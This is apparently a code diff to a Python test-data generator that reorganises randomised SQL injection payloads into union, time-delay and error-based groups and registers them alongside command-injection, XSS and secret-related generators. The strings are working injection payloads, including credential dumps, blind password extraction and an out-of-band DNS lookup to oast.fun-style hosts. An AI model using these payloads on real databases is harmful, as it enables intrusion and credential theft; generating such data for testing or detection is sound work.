@@ -9,12 +9,28 @@ from generator.world import World
 
 
 def _sql(world: World) -> str:
+    """Unions and conditions; what waits or provokes errors has slots of its own, for it goes by another name."""
     number = world.number(1, 9999)
     return world.pick((
-        f"{number}' AND (SELECT {number} FROM (SELECT(SLEEP({world.number(3, 12)})))a)-- -", f"-{number} UNION ALL SELECT {','.join(['NULL'] * world.number(2, 9))},CONCAT(0x71,user(),0x71)#", f"{number}') OR EXTRACTVALUE({number},CONCAT(0x5c,0x71,(SELECT version())))--", f"{number};WAITFOR DELAY '0:0:{world.number(3, 9)}'--",
-        f"{number}' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE '' END)--", f"1 and ord(mid((select group_concat(schema_name) from information_schema.schemata),{world.number(1, 30)},1))>{world.number(40, 120)}", f"{number}' union select 1,2,group_concat(username,0x3a,password) from t_user%23", f"(select*from(select(sleep({world.number(3, 9)})))b)",
-        f"{number}'/**/and/**/updatexml(1,concat(0x7e,(select/**/user())),1)#", f"{number} and 1=(select top 1 name from master..sysdatabases)", f"{number}';declare @q varchar(99);set @q='\\\\{world.word(8)}.{world.pick(('oast.fun', 'dnslog.cn', 'ceye.io'))}\\a';exec master.dbo.xp_dirtree @q;--", f"{number}' and utl_inaddr.get_host_address((select banner from v$version where rownum=1)) is not null--",
-        f"{number}%df' or 1=1 limit 1,1#", f"if(ascii(substr(database(),1,1))>{world.number(90, 120)},sleep(3),0)", f"{number}' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--",
+        f"-{number} UNION ALL SELECT {','.join(['NULL'] * world.number(2, 9))},CONCAT(0x71,user(),0x71)#", f"1 and ord(mid((select group_concat(schema_name) from information_schema.schemata),{world.number(1, 30)},1))>{world.number(40, 120)}", f"{number}' union select 1,2,group_concat(username,0x3a,password) from t_user%23",
+        f"{number} and 1=(select top 1 name from master..sysdatabases)", f"{number}%df' or 1=1 limit 1,1#", f"{number}' and ascii(substr((select password from sys_user limit 1),{world.number(1, 9)},1))>{world.number(40, 120)}-- -", f"{number}' AND {number}={number} AND 'a'='a", f"{number}') or (select count(*) from all_users)>0--",
+        f"{number}' and utl_inaddr.get_host_address((select banner from v$version where rownum=1)) is not null--", f"{number}' rlike (select (case when ({number}={number}) then 1 else 0x28 end))-- a",
+    ))  # fmt: skip
+
+
+def _waiting(world: World) -> str:
+    number, seconds = world.number(1, 9999), world.number(3, 12)
+    return world.pick((
+        f"{number}' AND (SELECT {number} FROM (SELECT(SLEEP({seconds})))a)-- -", f"{number};WAITFOR DELAY '0:0:{seconds}'--", f"{number}' || (SELECT CASE WHEN (1=1) THEN pg_sleep({seconds}) ELSE '' END)--", f"(select*from(select(sleep({seconds})))b)", f"if(ascii(substr(database(),1,1))>{world.number(90, 120)},sleep({seconds}),0)",
+        f"{number}') OR BENCHMARK({seconds}000000,MD5(1))#", f"{number}' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),{seconds})--", f"{number}'xor(if(now()=sysdate(),sleep({seconds}),0))xor'z",
+    ))  # fmt: skip
+
+
+def _faulty(world: World) -> str:
+    number = world.number(1, 9999)
+    return world.pick((
+        f"{number}') OR EXTRACTVALUE({number},CONCAT(0x5c,0x71,(SELECT version())))--", f"{number}'/**/and/**/updatexml(1,concat(0x7e,(select/**/user())),1)#", f"{number}' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--", f"{number} and 1=convert(int,(select @@version))--", f"{number}' and exp(~(select*from(select user())a))--",
+        f"{number}' and (select 1 from (select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -", f"{number}' and ctxsys.drithsx.sn(1,(select user from dual))=1--", f"{number} and 1=cast((select version()) as int)--", f"{number}' and gtid_subset(concat(0x7e,user()),{number})#",
     ))  # fmt: skip
 
 
@@ -83,6 +99,6 @@ def _query(world: World) -> str:
 
 
 payloads: dict[str, Callable[[World], object]] = {
-    "sqli": _sql, "cmd": _command, "outside": _outside, "xss": _script, "up": _up, "secret": _secret, "inside": _inside, "lookup": _lookup, "page": _page, "talk": _talk, "query": _query, "table": _table,
+    "sqli": _sql, "waiting": _waiting, "faulty": _faulty, "cmd": _command, "outside": _outside, "xss": _script, "up": _up, "secret": _secret, "inside": _inside, "lookup": _lookup, "page": _page, "talk": _talk, "query": _query, "table": _table,
     "coded": lambda world: base64.b64encode(_command(world).encode()).decode(), "blob": lambda world: base64.b64encode(bytes(world.number(0, 255) for _ in range(world.number(48, 160)))).decode(),
 }  # fmt: skip
